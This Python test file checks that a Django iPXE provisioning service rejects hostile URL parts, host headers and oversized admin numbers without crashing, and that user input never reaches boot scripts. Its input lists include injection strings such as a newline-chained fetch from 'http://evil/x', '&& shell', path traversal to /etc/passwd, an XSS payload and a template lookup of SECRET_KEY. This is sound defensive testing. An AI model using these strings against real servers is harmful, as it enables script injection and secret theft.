"""Nothing a client sends may produce a 500, and nothing it sends may reach a script unchecked."""

import re
from urllib.parse import quote

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provisioning.scripts import ipxe_text
from provisioning.validators import KERNEL_ARG_CHARS

NASTY = [
    "a\nchain http://evil/x",
    "a\r\nshell",
    "x && shell",
    "x || reboot",
    "${net0/mac}",
    "${root}",
    "#!ipxe",
    "a # b",
    "'quoted'",
    '"quoted"',
    "back\\slash",
    "\x00",
    "\x1b[31m",
    "\u202eevil",
    "é",
    "😀",
    "%00",
    "%0a",
    "..",
    "../../etc/passwd",
    ".env",
    "a" * 5000,
    "9" * 5000,
    "-1",
    "+5",
    " ",
    "___",
    "<script>alert(1)</script>",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
]

PREFIXES = [
    "/ipxe/{}",
    "/ipxe/prod/{}",
    "/ipxe/prod/1/{}",
    "/ipxe/prod/1/x/{}",
    "/provision/{}",
    "/kernel/{}",
    "/kernel/net/{}.efi",
]


def _check(client: Client, path: str) -> None:
    response = client.get(path)
    # 503 is a designed answer (a network with no kernel yet), never a crash.
    designed_503 = response.status_code == 503 and b"no kernel assigned" in response.content
    assert response.status_code < 500 or designed_503, (path, response.status_code)
    if response.status_code == 200 and response["Content-Type"].startswith("text/plain"):
        script = response.content.decode()
        for line in script.splitlines():
            if line.startswith("imgfetch") and " --name zos " in line:
                # After the URL, the MAC the card adds and the boot's token: the kernel's
                # command line.
                url, _, args = line.split(" && ")[0].partition(" --name zos ")[2].partition(" ")
                assert re.fullmatch(
                    r"\$\{zos_source\$\{zos_src\}\}\?mac=\$\{net\$\{zos_nic\}/mac:hexhyp\}"
                    r"&boot=[0-9a-f.]+",
                    url,
                ), line
                assert set(args) <= KERNEL_ARG_CHARS, line
        assert "{{" not in script and "{%" not in script
    if response.status_code >= 400:
        body = response.content.decode()
        assert body.startswith("#!ipxe\n")
        # The error body is harmless to run: only echo, comments and the pause.
        for line in body.splitlines()[1:]:
            assert line == "" or line.startswith(("#", "echo", "prompt")), line
            assert "$" not in line and "&&" not in line.replace("||", "")


@pytest.mark.django_db
@pytest.mark.parametrize("value", NASTY)
@pytest.mark.parametrize("prefix", PREFIXES)
def test_nasty_values_in_every_url_part_never_fail_the_server(client, prod, prefix, value):
    _check(client, prefix.format(quote(value, safe="")))


@pytest.mark.django_db
@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    net=st.text(max_size=40),
    farm=st.text(max_size=40) | st.integers(-(2**70), 2**70).map(str),
    extra=st.text(max_size=600),
    kernel=st.text(max_size=60),
    depth=st.integers(1, 4),
)
def test_random_url_parts_never_fail_the_server(client, prod, net, farm, extra, kernel, depth):
    parts = [net, farm, extra, kernel][:depth]
    # A path segment can hold anything but "/" (which would make it another segment).
    path = "/ipxe/" + "/".join(quote(part, safe="") or "x" for part in parts)
    _check(client, path)


@pytest.mark.django_db
@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(extra=st.text(alphabet=st.characters(codec="utf-8"), max_size=300))
def test_whatever_extra_args_are_accepted_stay_within_the_alphabet(client, prod, extra):
    _check(client, "/ipxe/prod/1/" + quote(extra, safe="") if extra else "/ipxe/prod/1")


@pytest.mark.django_db
@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(mac=st.text(max_size=40))
def test_random_macs_never_fail_the_server(client, db, mac):
    _check(client, "/provision/" + (quote(mac, safe="") or "x"))


@pytest.mark.django_db
@pytest.mark.parametrize(
    "host", ["evil.example.com", "127.0.0.1:8000@evil", "a" * 300, "[::1", "host\r\nX: y"]
)
def test_odd_host_headers_are_refused_not_crashing(client, prod, host):
    response = client.get("/ipxe/prod/1", HTTP_HOST=host)
    assert response.status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "/ipxe/prod/12a",
        "/ipxe/prod/0",
        "/ipxe/Prod",
        "/ipxe/nope",
        "/ipxe/prod/1/a;b",
        "/ipxe/prod/1/a'b",
        "/ipxe/prod/1/" + "x" * 600,
        "/ipxe/prod/1/runmode=dev",
        "/ipxe/prod/1/x/no such kernel",
        "/ipxe/prod/1/x/missing.efi",
        "/provision/not-a-mac",
        "/kernel/..%2Fsecret",
        "/no/such/page",
        "/iso/prod/1/a%0Ab",
    ],
)
def test_console_messages_read_as_written(client, prod, path):
    # What reaches an iPXE console passes through the sanitiser; a message worded for it
    # comes out unchanged (no quote or semicolon turned into a question mark).
    response = client.get(path)
    assert response.status_code >= 400
    (line,) = [ln for ln in response.content.decode().splitlines() if "zosboot error" in ln]
    message = line.split(": ", 1)[1]
    assert "?" not in message, line
    assert ipxe_text(message) == message


# --- the admin's lists: what a typed or pasted URL may hold --------------------------------

#: Numbers no column holds, digits int() refuses, a number no timedelta holds.
ODD_NUMBERS = ["99999999999999999999", "-99999999999999999999", "9" * 5000, "²", "99999999999"]
#: Query parameters the lists read: Django's own filters (a related row's id), ours, sorting.
LIST_PARAMETERS = ["network", "kernel", "farm", "not_seen", "seen", "o", "q", "p"]


@pytest.mark.django_db
def test_no_admin_list_fails_on_a_number_it_cannot_hold(admin_client, prod, kernel):
    from django.contrib import admin

    failed = []
    for model in admin.site._registry:
        base = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        for name in LIST_PARAMETERS:
            for value in ODD_NUMBERS:
                response = admin_client.get(base, {name: value})
                if response.status_code >= 500:
                    failed.append((base, name, value[:20]))
    assert not failed, failed


@pytest.mark.django_db
def test_a_number_too_large_for_any_column_is_a_400_that_says_so(admin_client, prod):
    response = admin_client.get("/admin/provisioning/node/", {"network": "9" * 20})
    assert response.status_code == 400
    assert (
        response.content == b"network: this number is too large for anything the service stores\n"
    )
    # A number within range that matches nothing is Django's own answer.
    assert admin_client.get("/admin/provisioning/node/", {"network": "9" * 18}).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["99999999999", "²", "not-99999999999"])
def test_a_days_filter_out_of_reach_is_a_wrong_filter_not_a_failure(admin_client, value):
    for url, name in (("/admin/provisioning/node/", "not_seen"),
                      ("/admin/provisioning/latestboot/", "seen")):  # fmt: skip
        response = admin_client.get(url, {name: value})
        # Django's answer to a filter it cannot apply: the list again, with ?e=1.
        assert response.status_code == 302 and "e=1" in response["Location"], (url, response)


@pytest.mark.django_db
def test_forms_and_actions_naming_a_row_by_a_number_too_large_are_a_400(admin_client, prod, kernel):
    from django.db import connection

    from provisioning.models import BranchLink

    link, _ = BranchLink.point("dev.efi", kernel)
    huge = "9" * 20
    posts = [
        (f"/admin/provisioning/branchlink/{link.pk}/change/",
         {"kernel": huge, "changes-TOTAL_FORMS": "0", "changes-INITIAL_FORMS": "0"}),
        ("/admin/provisioning/node/add/",
         {"mac": "52:54:00:00:00:01", "farm": huge, "network": huge}),
        ("/admin/provisioning/network/", {"action": "rollback_kernel", "_selected_action": huge}),
        ("/admin/provisioning/pendingswitch/", {"action": "approve", "_selected_action": huge}),
        ("/admin/provisioning/kernel/", {"action": "promote", "_selected_action": huge}),
        ("/admin/provisioning/kernel/", {"action": "delete_selected", "_selected_action": huge}),
    ]  # fmt: skip
    for url, data in posts:
        response = admin_client.post(url, data)
        assert response.status_code < 500, (url, response.status_code)
        if connection.vendor == "sqlite":  # PostgreSQL compares such a number: no row has it
            assert response.status_code == 400, (url, response.status_code)
            said = b"this number is too large for anything the service stores"
            assert said in response.content
    assert BranchLink.objects.get(pk=link.pk).kernel == kernel
